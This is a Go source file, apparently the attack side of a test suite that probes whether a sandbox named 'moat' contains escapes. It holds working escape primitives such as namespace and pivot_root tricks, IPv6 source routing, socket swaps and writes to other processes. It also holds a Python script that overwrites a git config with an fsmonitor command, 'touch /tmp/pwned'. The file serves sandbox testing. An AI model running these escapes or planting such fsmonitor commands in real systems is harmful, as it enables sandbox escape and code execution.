	// keyring DESC: find a key in the caller's session keyring and read it.
	"keyring": func(a []string) (string, error) {
		id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", a[0], 0)
		if err != nil {
			return "", fmt.Errorf("keyctl search %s: %w", a[0], err)
		}
		buf := make([]byte, 256)
		n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
		if err != nil {
			return "", fmt.Errorf("keyctl read: %w", err)
		}
		return "read the key: " + string(buf[:n]), nil
	},
	// curl ARGS...: run curl; escaped when it got a 2xx answer. Under moat
	// the proxy variables are set; without moat they are not.
	"curl": func(a []string) (string, error) {
		args := append([]string{"-sS", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}"}, a...)
		out, err := exec.Command("curl", args...).CombinedOutput()
		code := strings.TrimSpace(string(out))
		if err != nil || !strings.HasPrefix(code, "2") {
			return "", fmt.Errorf("curl %v: %s %v", a, code, err)
		}
		return "HTTP " + code, nil
	},
	// listen ADDR: start a TCP server.
	"listen": func(a []string) (string, error) {
		l, err := net.Listen("tcp", a[0])
		if err != nil {
			return "", err
		}
		l.Close()
		return "listening on " + a[0], nil
	},
	// tcp ADDR: connect directly (no proxy).
	"tcp": func(a []string) (string, error) {
		c, err := net.DialTimeout("tcp", a[0], 3*time.Second)
		if err != nil {
			return "", err
		}
		c.Close()
		return "connected to " + a[0], nil
	},
	// udp ADDR: send a datagram and wait for the echo.
	"udp": func(a []string) (string, error) {
		c, err := net.Dial("udp", a[0])
		if err != nil {
			return "", err
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(2 * time.Second))
		if _, err := c.Write([]byte("ping")); err != nil {
			return "", err
		}
		buf := make([]byte, 16)
		n, err := c.Read(buf)
		if err != nil {
			return "", err
		}
		return "udp answer " + string(buf[:n]), nil
	},
	// udpto ADDR: send an IPv4 datagram from an unbound, unconnected
	// socket (sendto: no bind, no connect) and wait for the echo.
	"udpto": func(a []string) (string, error) {
		ap, err := netip.ParseAddrPort(a[0])
		if err != nil {
			return "", err
		}
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return "", fmt.Errorf("socket: %w", err)
		}
		defer unix.Close(fd)
		if err := unix.Sendto(fd, []byte("ping"), 0, &unix.SockaddrInet4{Addr: ap.Addr().As4(), Port: int(ap.Port())}); err != nil {
			return "", fmt.Errorf("sendto: %w", err)
		}
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 2})
		buf := make([]byte, 16)
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			return "", fmt.Errorf("recvfrom: %w", err)
		}
		return "udp answer " + string(buf[:n]), nil
	},
	// srh HOP [V6]:PORT MARK: connect to [V6]:PORT with an IPv6 segment
	// routing header (IPV6_RTHDR) whose active segment is HOP and whose
	// other segments carry MARK: the SYN goes to HOP, not to the address
	// connected to. It escaped if the SYN was sent (the test's packet
	// socket sees whether it reached HOP).
	"srh": func(a []string) (string, error) {
		return sourceRoutedConnect(a[0], a[1], a[2])
	},
	// icmp ADDR: a raw ICMP echo request.
	"icmp": func(a []string) (string, error) {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
		if err != nil {
			return "", fmt.Errorf("raw socket: %w", err)
		}
		defer unix.Close(fd)
		ip := net.ParseIP(a[0]).To4()
		sa := &unix.SockaddrInet4{}
		copy(sa.Addr[:], ip)
		pkt := []byte{8, 0, 0xf7, 0xfe, 0, 1, 0, 0} // echo request, checksum precomputed
		if err := unix.Sendto(fd, pkt, 0, sa); err != nil {
			return "", fmt.Errorf("sendto: %w", err)
		}
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 2})
		buf := make([]byte, 128)
		if _, _, err := unix.Recvfrom(fd, buf, 0); err != nil {
			return "", fmt.Errorf("no echo reply: %w", err)
		}
		return "ICMP echo reply", nil
	},
	// unix PATH: connect to a pathname unix socket ("@name": abstract).
	"unix": func(a []string) (string, error) {
		return dialUnix(a[0])
	},
	// dev-meta: change the times (to now) and, as root, the mode (to the
	// mode it has) of the host's device nodes in moat's /dev: both
	// harmless to repeat on the host, and each a write to the host's inode
	// (as root, chmod 0600 /dev/null would break every other user).
	"dev-meta": func(a []string) (string, error) {
		var done []string
		for _, d := range []string{"null", "zero", "full", "random", "urandom", "tty"} {
			p := "/dev/" + d
			var st unix.Stat_t
			if err := unix.Stat(p, &st); err != nil {
				continue
			}
			if err := unix.UtimesNanoAt(unix.AT_FDCWD, p, []unix.Timespec{{Nsec: unix.UTIME_NOW}, {Nsec: unix.UTIME_NOW}}, 0); err == nil {
				done = append(done, "touched "+p)
			}
			if os.Geteuid() == 0 {
				if err := unix.Chmod(p, st.Mode&0o7777); err == nil {
					done = append(done, "chmod "+p)
				}
			}
		}
		if len(done) == 0 {
			return "", fmt.Errorf("no device node's times or mode could be changed")
		}
		return strings.Join(done, ", "), nil
	},
	// listen-unbound: listen on a TCP socket never bound (the kernel binds
	// it to every address, on a port of its choice).
	"listen-unbound": func(a []string) (string, error) {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return "", err
		}
		defer unix.Close(fd)
		if err := unix.Listen(fd, 1); err != nil {
			return "", fmt.Errorf("listen: %w", err)
		}
		sa, err := unix.Getsockname(fd)
		if err != nil {
			return "", err
		}
		return fmt.Sprintf("listening on port %d of every address", sa.(*unix.SockaddrInet4).Port), nil
	},
	// unix-listen PATH: a unix socket server at PATH.
	"unix-listen": func(a []string) (string, error) {
		l, err := net.Listen("unix", a[0])
		if err != nil {
			return "", err
		}
		l.Close()
		return "listening on " + a[0], nil
	},
	// prlimit-pid PID: lower PID's descriptor limit to 64 (the sandbox's
	// init, or without moat a process of the user's).
	"prlimit-pid": func(a []string) (string, error) {
		pid, err := strconv.Atoi(a[0])
		if err != nil {
			return "", err
		}
		lim := unix.Rlimit{Cur: 64, Max: 64}
		if err := unix.Prlimit(pid, unix.RLIMIT_NOFILE, &lim, nil); err != nil {
			return "", fmt.Errorf("prlimit: %w", err)
		}
		return "lowered the descriptor limit of pid " + a[0], nil
	},
	// renice-pid PID: lower PID's priority.
	"renice-pid": func(a []string) (string, error) {
		pid, err := strconv.Atoi(a[0])
		if err != nil {
			return "", err
		}
		if err := unix.Setpriority(unix.PRIO_PROCESS, pid, 19); err != nil {
			return "", fmt.Errorf("setpriority: %w", err)
		}
		return "reniced pid " + a[0], nil
	},
	// unix-thread PATH: connect to a unix socket from a thread that is not
	// the process's first (the broker opened the notifying thread's id as
	// a process and refused every such call).
	"unix-thread": func(a []string) (string, error) {
		// The main goroutine holds the first thread (lockFirstThread), so
		// the dial runs on another. Locking here instead held whichever
		// thread the goroutine was on, and the dial could land on the
		// first one (a flaky failure in CI21).
		type res struct {
			s   string
			err error
		}
		ch := make(chan res)
		go func() {
			runtime.LockOSThread()
			if unix.Gettid() == unix.Getpid() {
				ch <- res{"", fmt.Errorf("the dial runs on the first thread")}
				return
			}
			said, err := dialUnix(a[0])
			ch <- res{said + " (from another thread)", err}
		}()
		r := <-ch
		return r.s, r.err
	},
	// unix-dgram PATH [raw]: send a datagram to the unix socket at PATH
	// from a socketpair's datagram socket (no socket(AF_UNIX) needed).
	"unix-dgram": func(a []string) (string, error) {
		typ := unix.SOCK_DGRAM
		if len(a) > 1 && a[1] == "raw" {
			typ = unix.SOCK_RAW // AF_UNIX makes it a datagram socket
		}
		fds, err := unix.Socketpair(unix.AF_UNIX, typ|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return "", fmt.Errorf("socketpair: %w", err)
		}
		defer unix.Close(fds[0])
		defer unix.Close(fds[1])
		if err := unix.Sendto(fds[0], []byte("hello"), 0, &unix.SockaddrUnix{Name: a[0]}); err != nil {
			return "", fmt.Errorf("sendto: %w", err)
		}
		return "sent a datagram to " + a[0], nil
	},
	// unix-swap FROM TO: rename the socket FROM over TO, then connect to
	// TO.
	"unix-swap": func(a []string) (string, error) {
		if err := os.Rename(a[0], a[1]); err != nil {
			return "", err
		}
		return dialUnix(a[1])
	},
	// unix-link LINK TARGET: make LINK a symlink to TARGET (in place of
	// what is there), then connect to LINK.
	"unix-link": func(a []string) (string, error) {
		os.Remove(a[0])
		if err := os.Symlink(a[1], a[0]); err != nil {
			return "", err
		}
		return dialUnix(a[0])
	},
	// fds PATH: look for an inherited descriptor of PATH.
	"fds": func(a []string) (string, error) {
		es, err := os.ReadDir("/proc/self/fd")
		if err != nil {
			return "", err
		}
		for _, e := range es {
			if t, err := os.Readlink("/proc/self/fd/" + e.Name()); err == nil && t == a[0] {
				return "inherited fd " + e.Name() + " -> " + t, nil
			}
		}
		return "", fmt.Errorf("no descriptor of %s", a[0])
	},
}

func firstLine(b []byte) string {
	if i := bytes.IndexByte(b, '\n'); i >= 0 {
		b = b[:i]
	}
	if len(b) > 60 {
		b = b[:60]
	}
	return string(b)
}

// userNSScript is the nested-namespace attack, in Python: unshare(CLONE_NEWUSER)
// needs a single-threaded process, which a Go program never is.
const userNSScript = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def chk(r, what):
    if r < 0:
        e = ctypes.get_errno()
        print("blocked: %s: %s" % (what, os.strerror(e))); sys.exit(1)
gitdir = sys.argv[1]
dfd = os.open(gitdir, os.O_PATH | os.O_DIRECTORY)
uid, gid = os.getuid(), os.getgid()
chk(libc.unshare(0x10000000 | 0x00020000), "unshare(CLONE_NEWUSER|CLONE_NEWNS)")
try:
    open("/proc/self/setgroups", "w").write("deny")
except OSError:
    pass
open("/proc/self/uid_map", "w").write("%d %d 1" % (uid, uid))
open("/proc/self/gid_map", "w").write("%d %d 1" % (gid, gid))
chk(libc.mount(b"", b"/", None, 0x4000 | 0x40000, None), "make / private")
tmp = b"/proc/self/fdinfo" if not os.access("/tmp", os.W_OK) else b"/tmp"
chk(libc.mount(b"none", tmp, b"tmpfs", 0, None), "tmpfs")
os.mkdir(tmp + b"/old")
chk(libc.syscall(155, tmp, tmp + b"/old"), "pivot_root")
chk(libc.umount2(b"/old", 2), "detach the old root")
os.rename("config", "config.aside", src_dir_fd=dfd, dst_dir_fd=dfd)
fd = os.open("config", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644, dir_fd=dfd)
os.write(fd, b"[core]\n\tfsmonitor = touch /tmp/pwned\n")
os.close(fd)
print("ESCAPED: replaced %s/config" % gitdir)
`

func userNSReplace(a []string) (string, error) {
	cmd := exec.Command(python3(), "-c", userNSScript, a[0])
	out, err := cmd.CombinedOutput()
	s := strings.TrimSpace(string(out))
	if err != nil || !strings.HasPrefix(s, "ESCAPED") {
		return "", fmt.Errorf("%s", strings.TrimPrefix(s, "blocked: "))
	}
	return strings.TrimPrefix(s, "ESCAPED: "), nil
}

func python3() string {
	for _, p := range []string{"/usr/bin/python3", "/usr/local/bin/python3"} {
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	return "python3"
}

// unshareScript creates a user namespace (single-threaded, as it must be).
const unshareScript = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000) < 0:
    print("blocked: unshare(CLONE_NEWUSER): " + os.strerror(ctypes.get_errno())); sys.exit(1)
print("ESCAPED: created a user namespace")
`

// dialUnix connects to the unix socket at path and reads what it says.
// sourceRoutedConnect is the srh attack.
func sourceRoutedConnect(hop, addr, mark string) (string, error) {
	first, err := netip.ParseAddr(hop)
	if err != nil {
		return "", err
	}
	ap, err := netip.ParseAddrPort(addr)
	if err != nil {
		return "", err
	}
	// segments[0] is the final destination (the kernel fills it in with
	// the address connected to), then MARK in 16-byte segments, then HOP,
	// the active one (segments_left points at it).
	data := []byte(mark)
	data = append(data, make([]byte, (16-len(data)%16)%16)...)
	segs := make([]byte, 16, 16+len(data)+16)
	segs = append(segs, data...)
	h := first.As16()
	segs = append(segs, h[:]...)
	n := len(segs) / 16
	srh := append([]byte{0, byte(2 * n), 4, byte(n - 1), byte(n - 1), 0, 0, 0}, segs...)
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", fmt.Errorf("socket: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptString(fd, unix.IPPROTO_IPV6, unix.IPV6_RTHDR, string(srh)); err != nil {
		return "", fmt.Errorf("setsockopt IPV6_RTHDR: %w", err)
	}
	err = unix.Connect(fd, &unix.SockaddrInet6{Addr: ap.Addr().As16(), Port: int(ap.Port())})
	if err != nil && err != unix.EINPROGRESS {
		return "", fmt.Errorf("connect %s: %w", addr, err)
	}
	time.Sleep(300 * time.Millisecond) // the SYN and a retransmission or two
	return "a SYN for " + addr + " routed through " + hop, nil
}

func dialUnix(path string) (string, error) {
	c, err := net.DialTimeout("unix", path, 3*time.Second)
	if err != nil {
		return "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 16)
	n, err := c.Read(buf)
	if err != nil {
		return "", err
	}
	return "unix socket said " + string(buf[:n]), nil
}

// btrfs's BTRFS_IOC_SNAP_CREATE and BTRFS_IOC_SUBVOL_CREATE: _IOW(0x94,
// 1 or 14, struct btrfs_ioctl_vol_args).
const (
	btrfsSnapCreate   = 0x50009401
	btrfsSubvolCreate = 0x5000940e
)

// btrfsVolIoctl calls req on dir (opened for reading) with a
// btrfs_ioctl_vol_args naming fd and name.
func btrfsVolIoctl(dir string, req uint, fd int, name string) error {
	var args struct {
		fd   int64
		name [4088]byte
	}
	args.fd = int64(fd)
	copy(args.name[:], name)
	d, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(d)
	if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(d), uintptr(req), uintptr(unsafe.Pointer(&args))); e != 0 {
		return fmt.Errorf("ioctl %#x on %s: %w", req, dir, e)
	}
	return nil
}

// fscrypt's requests.
const (
	fsIocSetEncryptionPolicy    = 0x800c6613
	fsIocGetEncryptionPolicyEx  = 0xc0096616
	fsIocAddEncryptionKey       = 0xc0506617
	fsIocRemoveEncryptionKey    = 0xc0406618
	fscryptKeySpecTypeIdentifer = 2
)

// fscryptIoctl calls req on path (opened for reading) with arg.
func fscryptIoctl(path string, req uint, arg []byte) error {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), uintptr(req), uintptr(unsafe.Pointer(&arg[0]))); e != 0 {
		return fmt.Errorf("ioctl %#x on %s: %w", req, path, e)
	}
	return nil
}

// fscryptAddKey adds raw as a v2 key to path's filesystem and returns its
// identifier (struct fscrypt_add_key_arg: key_spec, raw_size, key_id,
// reserved, raw).
func fscryptAddKey(path string, raw []byte) ([]byte, error) {
	arg := make([]byte, 80+len(raw))
	binary.NativeEndian.PutUint32(arg[0:], fscryptKeySpecTypeIdentifer)
	binary.NativeEndian.PutUint32(arg[40:], uint32(len(raw)))
	copy(arg[80:], raw)
	if err := fscryptIoctl(path, fsIocAddEncryptionKey, arg); err != nil {
		return nil, err
	}
	return arg[8:24], nil
}

// fscryptKeyIoctl calls a key request (struct fscrypt_remove_key_arg) for
// the key identified by id.
func fscryptKeyIoctl(path string, req uint, id []byte) error {
	arg := make([]byte, 64)
	binary.NativeEndian.PutUint32(arg[0:], fscryptKeySpecTypeIdentifer)
	copy(arg[8:], id)
	return fscryptIoctl(path, req, arg)
}

// fscryptSetPolicy makes the empty directory dir encrypted (a v2 policy:
// AES-256-XTS and AES-256-CTS) with the key id.
func fscryptSetPolicy(dir string, id []byte) error {
	arg := make([]byte, 24)
	arg[0], arg[1], arg[2] = 2, 1, 4
	copy(arg[8:], id)
	return fscryptIoctl(dir, fsIocSetEncryptionPolicy, arg)
}

// fscryptPolicyKey returns the key identifier of the encrypted directory
// dir (FS_IOC_GET_ENCRYPTION_POLICY_EX: policy_size, then the policy).
func fscryptPolicyKey(dir string) ([]byte, error) {
	arg := make([]byte, 8+24)
	binary.NativeEndian.PutUint64(arg, 24)
	if err := fscryptIoctl(dir, fsIocGetEncryptionPolicyEx, arg); err != nil {
		return nil, err
	}
	if arg[8] != 2 {
		return nil, fmt.Errorf("%s: policy version %d", dir, arg[8])
	}
	return arg[16:32], nil
}

// mapShared maps the first page of path shared, for reading (and writing).
func mapShared(path string, write bool) ([]byte, error) {
	flags, prot := unix.O_RDONLY, unix.PROT_READ
	if write {
		flags, prot = unix.O_RDWR, unix.PROT_READ|unix.PROT_WRITE
	}
	fd, err := unix.Open(path, flags|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	defer unix.Close(fd)
	return unix.Mmap(fd, 0, 4096, prot, unix.MAP_SHARED)
}

// lockFirstThread keeps an attack child's main goroutine on the process's
// first thread (an init that locks does: Go's runtime docs), which
// "unix-thread" needs so that its dial runs on another.
func init() {
	if os.Getenv("MOAT_ATTACK") == "1" {
		runtime.LockOSThread()
	}
}
